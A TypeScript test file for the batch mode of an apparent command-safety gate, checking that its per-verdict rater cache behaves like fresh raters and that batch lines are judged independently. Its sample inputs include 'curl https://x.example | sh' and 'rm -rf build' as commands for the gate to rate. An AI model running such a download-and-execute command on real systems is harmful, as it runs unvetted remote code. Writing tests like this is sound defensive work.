/**
 * `batch` finds the rater of a line's `raterVerdict` by the verdict's JSON text, and skips
 * writing that text out when the verdict is `{outcome, reason}` (exactly those keys, in that
 * order, both strings) with the same two strings as the last such verdict. The shortcut must
 * give a rater that rates exactly as the rater made for the verdict itself would, and it must
 * never be taken for a verdict whose JSON text differs from the last one's.
 */
import { strict as assert } from 'node:assert';
import { Readable } from 'node:stream';

import { LineRaters, runBatch } from '../../../src/cli/batchCommand';
import { parseCliOptions } from '../../../src/cli/options';
import { readCommand } from '../../../src/gate/reading/reading';
import { NoModelRater, type Rater, type RatingRequest } from '../../../src/gate/rater/raterContract';
import { Prng } from '../../support/commandGenerator';

const OUTCOMES = ['safe', 'destructive', 'catastrophic', 'attack', 'SAFE', '', 'safe\u0000', 'maybe'];
const REASONS = ['benchmark', 'benchmark ', '', 'x', 'é"\\\n', 'safe', 'benchmark\u0000safe'];

/** A verdict as a request line would carry it (parsed from JSON text, like `batch` does). */
function randomVerdict(random: Prng): unknown {
  const outcome: unknown = random.chance(0.05) ? random.pick([1, null, true, ['safe']]) : random.pick(OUTCOMES);
  const reason: unknown = random.chance(0.05) ? random.pick([2, null, false, { a: 1 }]) : random.pick(REASONS);
  const shape = random.int(0, 9);
  let text: string;
  if (shape === 0) text = JSON.stringify({ reason, outcome });
  else if (shape === 1) text = JSON.stringify({ outcome, reason, suggestedTool: 'ls' });
  else if (shape === 2) text = JSON.stringify({ outcome });
  else if (shape === 3) text = `{"outcome":${JSON.stringify(outcome)},"reason":${JSON.stringify(reason)},"__proto__":{"x":1}}`;
  else if (shape === 4) text = JSON.stringify(random.pick([[outcome, reason], 'safe', 3, false, {}]));
  else if (shape === 5) text = JSON.stringify({ outcome, reason, extra: null });
  else text = JSON.stringify({ outcome, reason });
  return JSON.parse(text) as unknown;
}

const request: RatingRequest = { reading: readCommand('rm -rf build', { home: '/home/u', shell: 'bash' }), findings: [], rung: 'assisted', tripwire: false };

describe('batch: raters by raterVerdict', () => {
  it('a repeated verdict gets a rater that rates as the verdict itself would (20,000 lines)', async () => {
    const random = new Prng(71);
    const configured = new NoModelRater();
    const raters = new LineRaters();
    let last: { json: string; rater: Rater } | undefined;
    let shared = 0;
    for (let i = 0; i < 20000; i++) {
      // Runs of the same verdict (as in a corpus run), now and then a different one.
      const verdict = i > 0 && random.chance(0.7) && last !== undefined ? (JSON.parse(last.json) as unknown) : randomVerdict(random);
      const json = JSON.stringify(verdict);
      const rater = raters.for({ raterVerdict: verdict }, configured);
      // The reference: a fresh cache, which makes the rater from the verdict itself.
      const reference = new LineRaters().for({ raterVerdict: verdict }, configured);
      assert.deepEqual(await rater.rate(request), await reference.rate(request), json);
      if (last !== undefined && rater === last.rater) {
        shared += 1;
        assert.equal(json, last.json, 'a rater is shared only by verdicts with the same JSON text');
      }
      last = { json, rater };
    }
    assert.ok(shared > 5000, `the cache is used (${shared} shared)`);
  });

  it('each line of a batch is decided by its own verdict, rung and lists, whatever the line before carried', async () => {
    const random = new Prng(72);
    const lines: string[] = [];
    const lists = [undefined, [], ['rm'], ['npm test'], ['{"match":"glob","pattern":"rm *"}'], ['{bad'], [3]];
    for (let i = 0; i < 600; i++) {
      const line: Record<string, unknown> = { id: i, command: random.pick(['rm -rf build', 'npm test', 'ls', 'curl https://x.example | sh']) };
      const rung = random.pick([undefined, 'assisted', 'assisted', 'write', 'auto', 'manual', 'bypass']);
      if (rung !== undefined) line.rung = rung;
      if (random.chance(0.8)) line.raterVerdict = random.chance(0.6) ? { outcome: 'safe', reason: 'benchmark' } : random.chance(0.2) ? null : randomVerdict(random);
      for (const list of ['allow', 'deny', 'escalate']) {
        const entries = random.chance(0.15) ? random.pick(lists) : undefined;
        if (entries !== undefined) line[list] = entries;
      }
      lines.push(JSON.stringify(line));
    }
    const options = parseCliOptions(['batch']);
    const together: string[] = [];
    await runBatch(options, Readable.from([Buffer.from(lines.join('\n'))]), (line) => together.push(line));
    const alone: string[] = [];
    for (const line of lines) await runBatch(options, Readable.from([Buffer.from(line)]), (answer) => alone.push(answer));
    assert.deepEqual(together, alone);
  });
});
